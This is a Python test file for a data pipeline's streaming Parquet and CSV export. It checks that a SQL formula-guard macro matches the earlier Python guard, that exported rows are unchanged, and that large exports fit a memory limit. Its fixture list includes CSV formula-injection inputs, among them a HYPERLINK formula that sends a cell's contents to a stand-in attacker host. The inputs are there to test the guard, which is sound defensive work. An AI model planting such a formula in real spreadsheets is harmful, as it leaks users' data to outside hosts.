"""`planwatch export` streams (issue 20): the Parquet files are written a row group at a time on one thread, and
the CSV formula guard is a SQL macro instead of a Python call per text cell. The files hold what the former
writer wrote (rows, columns, guarded cells), and a Parquet export of more texts than the memory limit holds passes
where the former writer ran out of memory."""

from __future__ import annotations

import csv
from pathlib import Path

import duckdb
import pyarrow.parquet as pq
import pytest
from duckdb.func import SPECIAL

from pipeline import export, sql
from pipeline.cellguard import FORMULA_STARTS, as_text
from pipeline.snapshot import open_snapshot
from planwatch.config import Paths
from tests.foundation.helpers import analyst_warehouse

CELLS = ['=HYPERLINK("http://evil.example/?x="&A1,"x")', "+cmd", "-2+3", "@SUM(1)", "\t=1", "\r=1", "=", "-",
         "", " =1", "a=b", "Bồi dưỡng giáo viên", "＝全角", "'=quoted", "\n=1", None]


def test_the_csv_guard_macro_is_cellguard() -> None:
    conn = duckdb.connect()
    conn.execute(sql.query("export_text_cell"))
    got = [conn.execute("SELECT pw_text_cell(?::VARCHAR)", [v]).fetchone()[0] for v in CELLS]  # type: ignore[index]
    assert got == [as_text(v) for v in CELLS]
    assert all(any(v and v.startswith(s) for v in CELLS) for s in FORMULA_STARTS)  # every start is tried


def _former_export(conn: duckdb.DuckDBPyConnection, out: Path, fmt: str) -> None:
    """The export as it was written before streaming: default row groups, a Python guard per text cell."""
    out.mkdir()
    if fmt == "csv":
        conn.create_function(export._GUARD_FN, lambda v: None if v is None else str(as_text(v)),
                             [duckdb.sqltype("VARCHAR")], duckdb.sqltype("VARCHAR"), null_handling=SPECIAL,
                             side_effects=False)
    for view in export.ANALYST_VIEWS:
        if fmt == "parquet":
            conn.sql(export._select(conn, view)).write_parquet(str(out / f"{view}.parquet"))
        else:
            export._write_csv_with_bom(conn.sql(export._select(conn, view, guard_text=True)), out / f"{view}.csv")
    if fmt == "csv":
        conn.remove_function(export._GUARD_FN)


def _rows(path: Path) -> tuple[list[str], list[tuple[object, ...]]]:
    """Header and rows (sorted: views without ORDER BY have no fixed row order) of an exported file."""
    if path.suffix == ".csv":
        assert path.read_bytes().startswith(export.UTF8_BOM)
        with open(path, encoding="utf-8-sig", newline="") as fh:
            header, *body = list(csv.reader(fh))
        return header, sorted(tuple(r) for r in body)
    table = pq.read_table(path)
    return [f"{f.name}:{f.type}" for f in table.schema], sorted(
        tuple(repr(v) for v in r.values()) for r in table.to_pylist())


@pytest.mark.parametrize("lake_on", [False, True], ids=["file", "lake"])
@pytest.mark.parametrize("fmt", ["parquet", "csv"])
def test_the_export_writes_what_the_former_writer_wrote(home: Paths, tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
                                                         fmt: str, lake_on: bool) -> None:
    analyst_warehouse(home)
    if lake_on:
        from pipeline import lake

        monkeypatch.setenv(lake.LAKE_ENV, "sqlite")
        assert lake.migrate_warehouse(home)["problems"] == {}
    with open_snapshot(home) as conn:
        _former_export(conn, tmp_path / "before", fmt)
        threads = conn.execute("SELECT current_setting('threads')").fetchone()
        written = export.export_views(conn, tmp_path / "after", fmt)
        assert conn.execute("SELECT current_setting('threads')").fetchone() == threads  # restored
    assert [p.name for p in written] == [f"{v}.{fmt}" for v in export.ANALYST_VIEWS]
    nonempty = 0
    for path in written:
        before = _rows(tmp_path / "before" / path.name)
        assert _rows(path) == before, path.name
        nonempty += bool(before[1])
    assert nonempty >= 4  # documents, matches, coverage, the queue: the comparison has rows to compare


def _big_texts(memory: str) -> duckdb.DuckDBPyConnection:
    """40,000 documents of 8 KB text (about 320 MB) behind a reader limited to `memory`, two threads."""
    conn = duckdb.connect()
    conn.execute("SET threads = 2")
    conn.execute("CREATE TABLE documents AS SELECT 'd' || i AS doc_id, repeat(md5(i::VARCHAR), 250) AS text "
                 "FROM range(40000) t(i)")
    conn.execute(f"SET memory_limit = '{memory}'")
    return conn


def test_a_parquet_export_bigger_than_the_memory_limit_streams(tmp_path: Path) -> None:
    conn = _big_texts("200MB")
    with pytest.raises(duckdb.OutOfMemoryException):  # the former writer: one 122,880-row group per thread
        conn.sql("SELECT doc_id, text FROM documents").write_parquet(str(tmp_path / "former.parquet"))
    (path,) = export.export_views(conn, tmp_path / "out", "parquet", ("documents",))
    meta = pq.ParquetFile(path).metadata
    assert meta.num_rows == 40000
    assert max(meta.row_group(i).num_rows for i in range(meta.num_row_groups)) <= export.PARQUET_ROW_GROUP_ROWS
    conn.execute("SET memory_limit = '1GB'")  # reading it back is not what is tested
    same = "SELECT count(*), sum(hash(doc_id, text)), sum(strlen(text)) FROM "
    assert conn.execute(same + "read_parquet(?)", [str(path)]).fetchone() == conn.execute(same + "documents").fetchone()
    assert conn.execute("SELECT current_setting('threads')").fetchone() == (2,)
